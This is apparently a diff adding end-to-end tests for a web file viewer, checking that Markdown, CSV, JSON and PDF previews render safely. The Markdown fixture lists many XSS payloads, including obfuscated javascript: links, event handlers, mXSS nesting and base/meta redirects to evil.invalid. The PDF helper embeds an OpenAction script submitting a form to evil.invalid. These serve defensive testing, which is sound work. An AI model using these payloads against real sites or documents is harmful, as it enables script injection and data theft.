@@ -195,3 +195,119 @@ await scenario("sound", async ({ context }) => {
   await page.getByText("The browser can't play this file").waitFor();
   await checkAxe(page);
 });
+
+await scenario("Markdown is a document and nothing else", async ({ context, requests }) => {
+  const ann = await user("md-ann", { folders: ["docs"] });
+  const id = ann.folders.docs;
+  await must(ann, "MKCOL", `/dav/${id}/sub`);
+  await put(ann, id, "sub/other.md", "# The other one");
+  await put(ann, id, "near.png", png(30, 20, [10, 160, 60]));
+  await put(ann, id, "README.md", [
+    "# Title", "", "Some **bold** text, `code` and [a file](sub/other.md), [outside](https://example.invalid/x), [below](#a-part).", "",
+    "![near](near.png) ![far](https://tracker.invalid/pixel.png) ![nowhere](missing.png) ![inline](data:image/svg+xml,<svg onload=window.pwned=1>)", "",
+    "<script>window.pwned = 1</script>", "", `<img src=x onerror="window.pwned = 1">`, "", `<svg onload="window.pwned=1"></svg><iframe srcdoc="<script>top.pwned=1</script>"></iframe>`, "",
+    "[js](javascript:window.pwned=1) [js2](JaVaScRiPt:window.pwned=1) [js3](java&#115;cript:window.pwned=1) [js4](<java\tscript:window.pwned=1>) [data](data:text/html,<script>window.pwned=1</script>) [vb](vbscript:msgbox)", "",
+    "<a href=\"javascript:window.pwned=1\">raw</a> <style>body{display:none}</style> <base href=\"https://evil.invalid/\"> <meta http-equiv=refresh content=\"0;url=https://evil.invalid\">", "",
+    "![x](x\"onerror=\"window.pwned=1) [x](https://a.invalid/\"onclick=\"window.pwned=1)", "", "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>", "",
+    "```html", "<script>window.pwned=1</script>", "```", "", "| a | b |", "|:--|--:|", "| 1 | 2 |", "", "[api](/api/davit/me) ![api](/auth/logout/web)", "", "## A part", "", "The end.",
+  ].join("\n"));
+  const page = await signIn(context, ann.name, ann.password, view(id, "README.md"));
+  const doc = page.getByRole("article", { name: "README.md" });
+  await doc.getByRole("heading", { name: "A part" }).waitFor();
+  await eventually("the picture of the folder", () => doc.getByRole("img", { name: "near" }).evaluate((img) => img.complete && img.naturalWidth === 30));
+  await doc.getByText("far (picture of tracker.invalid, not loaded)").waitFor();
+  await doc.getByText("nowhere (this picture is not in the folder)").waitFor();
+  await nothingRan(page);
+  equal(await doc.evaluate((el) => [...el.querySelectorAll("script, iframe, style, base, meta, svg, math, object, embed, form, input")].length), 0, "elements");
+  equal(await doc.evaluate((el) => [...el.querySelectorAll("*")].flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => n.startsWith("on") || n === "style")), [], "attributes");
+  const links = await doc.evaluate((el) => [...el.querySelectorAll("a[href]")].map((a) => [a.getAttribute("href"), a.target, a.rel]));
+  for (const [href, target, rel] of links) {
+    if (href.startsWith("#")) continue;
+    check(/^https:\/\//.test(href) && target === "_blank" && rel === "noopener noreferrer", `a link to ${href} with ${target} ${rel}`);
+  }
+  check(!requests.some((r) => r.path.startsWith("/auth/logout")), "a picture has signed out");
+  await checkAxe(page);
+  await shot(page, "markdown");
+  await page.getByRole("button", { name: "Source" }).click();
+  await page.getByRole("textbox", { name: "Content of README.md" }).getByText("# Title").waitFor();
+  await page.getByRole("button", { name: "Document" }).click();
+  await doc.getByRole("link", { name: "a file" }).click();
+  await page.getByRole("heading", { name: "The other one" }).waitFor();
+  await page.goBack();
+  await doc.getByRole("heading", { name: "A part" }).waitFor();
+});
+
+await scenario("tables and JSON", async ({ context }) => {
+  const ann = await user("table-ann", { folders: ["data"] });
+  const id = ann.folders.data;
+  await put(ann, id, "a.csv", `name;note;n\r\n"Smith; J.";"says ""hi""\r\ntwice";1\r\nlast;;2\r\n`);
+  await put(ann, id, "b.json", `{"big":123456789012345678901234567890,"a":[1,{"x":"y, {z}"}],"e":{},"b":"\\""}`);
+  await put(ann, id, "c.json", `{"broken": `);
+  const page = await signIn(context, ann.name, ann.password, view(id, "a.csv"));
+  await page.getByRole("columnheader", { name: "note" }).waitFor();
+  equal(await page.getByRole("row").nth(1).getByRole("cell").allTextContents(), ["1", "Smith; J.", 'says "hi"⟨U+000D⟩⟨U+000A⟩twice', "1"]);
+  await page.getByText("2 rows").waitFor();
+  await checkAxe(page);
+  await shot(page, "table");
+  await page.goto(view(id, "b.json"));
+  const code = page.getByRole("textbox");
+  await code.getByText("123456789012345678901234567890").waitFor();
+  equal(await code.evaluate((el) => [...el.querySelectorAll(".cm-line")].map((l) => l.textContent)), ["{", '  "big": 123456789012345678901234567890,', '  "a": [', "    1,", "    {", '      "x": "y, {z}"', "    }", "  ],", '  "e": {},', '  "b": "\\""', "}", ""]);
+  await page.goto(view(id, "c.json"));
+  await page.getByText("This is not valid JSON").waitFor();
+  await checkAxe(page);
+});
+
+// A PDF file with that many pages, a link and a script that must not run.
+function pdf(pages) {
+  const objects = ["<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('https://evil.invalid'\\)) >> >>",
+    `<< /Type /Pages /Kids [${Array.from({ length: pages }, (_, i) => `${4 + i * 2} 0 R`).join(" ")}] /Count ${pages} >>`, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"];
+  for (let i = 0; i < pages; i++) {
+    const text = `BT /F1 24 Tf 72 700 Td (This is page ${i + 1}${i === 8 ? " with the treasure" : ""}) Tj ET`;
+    objects.push(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${5 + i * 2} 0 R /Resources << /Font << /F1 3 0 R >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [72 600 200 620] /A << /S /URI /URI (${i ? "javascript:window.pwned=1" : "https://example.invalid/pdf"}) >> >>] >>`);
+    objects.push(`<< /Length ${text.length} >>\nstream\n${text}\nendstream`);
+  }
+  let out = "%PDF-1.4\n";
+  const at = objects.map((o, i) => {
+    const here = out.length;
+    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
+    return here;
+  });
+  const xref = out.length;
+  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${at.map((n) => `${String(n).padStart(10, "0")} 00000 n \n`).join("")}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
+  return Buffer.from(out, "latin1");
+}
+
+await scenario("PDF", async ({ context, requests }) => {
+  const ann = await user("pdf-ann", { folders: ["papers"] });
+  const id = ann.folders.papers;
+  await put(ann, id, "paper.pdf", pdf(10));
+  await put(ann, id, "broken.pdf", "%PDF-1.4 and no more");
+  const page = await signIn(context, ann.name, ann.password, view(id, "paper.pdf"));
+  await page.getByText("This is page 1", { exact: true }).waitFor();
+  const drawn = () => page.evaluate(() => {
+    const c = document.querySelector("[data-page='1'] canvas");
+    return c ? c.getContext("2d").getImageData(0, 0, c.width, c.height).data.some((v, i) => i % 4 < 3 && v < 100) : false;
+  });
+  await eventually("it is drawn", drawn);
+  equal(await page.locator("canvas").count() < 10, true, "only pages near are drawn");
+  await checkAxe(page);
+  await shot(page, "pdf");
+  await page.getByRole("button", { name: "Next page" }).click();
+  await page.getByText("Page 2 of 10").waitFor();
+  await page.getByRole("searchbox", { name: "Find" }).fill("TREASURE");
+  await page.keyboard.press("Enter");
+  await page.getByText("Found on page 9").waitFor();
+  await page.getByText("This is page 9 with the treasure").waitFor();
+  await page.getByRole("spinbutton", { name: "Page" }).fill("1");
+  await page.keyboard.press("Enter");
+  await page.getByRole("link", { name: "https://example.invalid/pdf" }).waitFor();
+  equal(await page.locator(".preview-pdf a").evaluateAll((all) => all.map((a) => a.getAttribute("href")).filter((h) => !/^https:/.test(h))), [], "links");
+  await page.getByRole("button", { name: "Zoom in" }).click();
+  await page.getByText("This is page 1", { exact: true }).waitFor();
+  await nothingRan(page);
+  check(requests.some((r) => r.path.startsWith("/assets/pdfworker")), "no worker of our own");
+  await page.goto(view(id, "broken.pdf"));
+  await page.getByText("This PDF file can't be shown").waitFor();
+  await checkAxe(page);
+});
